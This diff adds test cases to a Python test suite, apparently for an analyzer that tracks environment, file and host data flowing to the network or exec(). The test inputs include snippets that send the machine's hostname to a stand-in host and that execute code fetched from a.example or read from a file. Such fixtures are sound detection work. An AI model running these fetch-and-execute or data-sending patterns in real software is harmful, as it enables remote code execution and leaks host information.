@@ -57,6 +57,12 @@ def executed(source: str) -> Call:
         ("import os\nX, y = os.environ, 1", Label.ENVIRONMENT),
         ("import os\nX = {}\nX['e'] = os.environ", Label.ENVIRONMENT),
         ("import os\nX = unknown(os.environ)", Label.ENVIRONMENT),
+        ("X = {}\nX['a'] = open('notes').read()", Label.FILE),
+        ("X = {}\nfor n in names():\n    X[n] = open(n).read()", Label.FILE),
+        ("X = []\nfor line in open('notes'):\n    X.append(line)", Label.FILE),
+        ("def f(p):\n    return p.read_text()\nX = f(unknown())", Label.FILE),
+        ("import socket\nX = {}\nX.update(name=socket.gethostname())", Label.HOST),
+        ("import socket\nfrom urllib.request import Request\nX = Request('https://a.example', data=socket.gethostname())", Label.HOST),
     ],
 )  # fmt: skip
 def test_a_label_reaches_the_network(source: str, label: Label) -> None:
@@ -81,6 +87,11 @@ def test_what_says_nothing_carries_nothing(source: str) -> None:
 def test_the_answer_of_a_server_is_executed() -> None:
     call = executed('import requests\nexec(requests.get("https://a.example/x").text)')
     assert Label.NETWORK in call.labels
+
+
+def test_a_file_beside_the_source_is_a_file() -> None:
+    call = executed("from pathlib import Path\nexec((Path(__file__).parent / 'x.txt').read_text())\n")
+    assert Label.FILE in call.labels
 
 
 def test_an_answer_carries_no_label_of_what_was_asked() -> None:
